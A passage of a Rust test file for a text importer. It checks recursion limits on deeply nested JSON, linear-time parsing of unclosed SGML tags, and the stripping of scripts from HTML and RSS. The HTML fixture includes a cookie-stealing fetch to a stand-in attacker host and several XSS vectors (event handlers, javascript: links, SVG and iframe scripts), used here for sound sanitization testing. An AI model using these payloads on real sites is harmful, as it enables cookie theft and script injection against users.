        &arr,
        format!(r#"[{{"title":"before"}}, {{"title":"deep","x":{deep}}}, {{"title":"after"}}]"#),
    )
    .unwrap();
    let lines = dir.path().join("deep_lines.jsonl");
    std::fs::write(
        &lines,
        format!("{{\"title\":\"line one\"}}\n{{\"title\":\"deep\",\"x\":{deep}}}\n{{\"title\":\"line three\"}}\n"),
    )
    .unwrap();
    let doc = dir.path().join("deep_doc.json");
    let objs = "{\"a\":".repeat(100_000);
    std::fs::write(
        &doc,
        format!("{{\n\"articles\": {objs}1{}\n}}\n", "}".repeat(100_000)),
    )
    .unwrap();
    let run = import(&p, &[&arr, &lines, &doc]);
    let d = run.diagnostic("bad-json", "deep_array.json");
    assert_eq!(d.2, "index 2", "{d:?}");
    assert!(d.3.contains("recursion"), "{d:?}");
    let d = run.diagnostic("bad-json", "deep_lines.jsonl");
    assert_eq!(d.2, "line 2", "{d:?}");
    let d = run.diagnostic("bad-json", "deep_doc.json");
    assert!(d.3.contains("recursion"), "{d:?}");
    assert_eq!(run.stored(), 4, "{:#?}", run.diagnostics());
    run.assert_rss_under(200);
}

/// An SGML record that is never closed and holds a quarter of a million `<` that begin tags
/// never closed (`x<a x<a …`, 1 MB): read in linear time (it took quadratic time before: 160 KB took two
/// minutes), the record kept with a warning, the good file beside it stored. Bound: 300 MB.
#[test]
fn sgml_full_of_unclosed_tags_is_read_in_linear_time() {
    let (dir, p) = project();
    let sgml = dir.path().join("unclosed.sgm");
    std::fs::write(
        &sgml,
        format!(
            "<REUTERS NEWID=\"1\"><TEXT><TITLE>Unclosed tags</TITLE><BODY>Start {}",
            "x<a ".repeat(1 << 18)
        ),
    )
    .unwrap();
    let good = good_file(dir.path(), "good.jsonl", 2);
    let started = std::time::Instant::now();
    let run = import(&p, &[&sgml, &good]);
    eprintln!("imported in {:?}", started.elapsed());
    assert!(started.elapsed() < std::time::Duration::from_secs(60));
    let d = run.diagnostic("unclosed-record", "unclosed.sgm");
    assert_eq!(d.2, "index 1", "{d:?}");
    assert_eq!(run.stored(), 3, "{:#?}", run.diagnostics());
    run.assert_rss_under(300);
}

/// A saved page and a feed item full of scripts, event handlers, `javascript:` links, styles,
/// `<noscript>`, an inline SVG script and an iframe: the stored text is what a reader sees,
/// with none of the code. Bound: 200 MB.
#[test]
fn html_scripts_and_handlers_never_reach_the_text() {
    let (dir, p) = project();
    let page = dir.path().join("page.html");
    std::fs::write(
        &page,
        r#"<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>Scripted page</title>
<script>var stolenCookie = document.cookie; fetch("https://evil.example/?" + stolenCookie);</script>
<style>body { background: url("javascript:styleAttack()") }</style>
</head>
<body onload="bodyOnloadAttack()">
<nav><a href="/">Home</a></nav>
<article>
<h1>Scripted page</h1>
<p>The first paragraph of the story is long enough to be the main text of this page, and it says what happened in the capital on Tuesday.</p>
<p onclick="paragraphClickAttack()">The second paragraph has a <a href="javascript:linkAttack()">link a reader sees</a> and an <img src="x" onerror="imageErrorAttack()"> image.</p>
<script>document.write("documentWriteAttack");</script>
<noscript>noscriptFallbackText</noscript>
<svg><script>svgScriptAttack()</script></svg>
<iframe srcdoc="&lt;script&gt;iframeAttack()&lt;/script&gt;"></iframe>
<p>The third paragraph ends the story with more words about the events of the week in the region.</p>
</article>
<script type="application/ld+json">{"@type":"NewsArticle","headline":"Scripted page"}</script>
</body></html>"#,
    )
    .unwrap();
    let feed = dir.path().join("scripted.rss");
    std::fs::write(
        &feed,
        r#"<?xml version="1.0"?><rss version="2.0"><channel><title>Wire</title>
<item><title>Scripted item</title><link>https://example.org/item</link>
<description>&lt;p onclick="feedClickAttack()"&gt;Visible feed text&lt;/p&gt;&lt;script&gt;feedScriptAttack()&lt;/script&gt;&lt;a href="javascript:feedLinkAttack()"&gt;feed link&lt;/a&gt;&lt;style&gt;.x{}&lt;/style&gt;</description>
</item></channel></rss>"#,
    )
    .unwrap();
    let run = import(&p, &[&page, &feed]);
    assert_eq!(run.stored(), 2, "{:#?}", run.diagnostics());
    let arts = articles(&p);
    let all: String = arts.iter().map(|(t, b)| format!("{t}\n{b}\n")).collect();
    for code in [
        "stolenCookie",
        "document.cookie",
        "styleAttack",
        "bodyOnloadAttack",
        "paragraphClickAttack",
        "linkAttack",
        "imageErrorAttack",
        "documentWriteAttack",
        "svgScriptAttack",
        "iframeAttack",
        "feedClickAttack",
        "feedScriptAttack",
        "feedLinkAttack",
        "javascript:",
        "onclick",
        "<script",
        "NewsArticle",
    ] {
        assert!(
            !all.contains(code),
            "`{code}` reached the stored text:\n{all}"
        );
    }
    for seen in [
        "The first paragraph of the story",
        "link a reader sees",
        "The third paragraph",
        "Visible feed text",
        "feed link",
    ] {
        assert!(all.contains(seen), "`{seen}` is missing:\n{all}");
    }
    run.assert_rss_under(200);
}

/// A plain import through the same helper: a JSON report, and no panic on standard error.
#[test]
fn the_report_is_json_and_errors_go_to_stderr() {
    let (dir, p) = project();
    let good = good_file(dir.path(), "good.jsonl", 1);
    let run = import(&p, &[&good]);
    assert_eq!(run.stored(), 1);
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
}
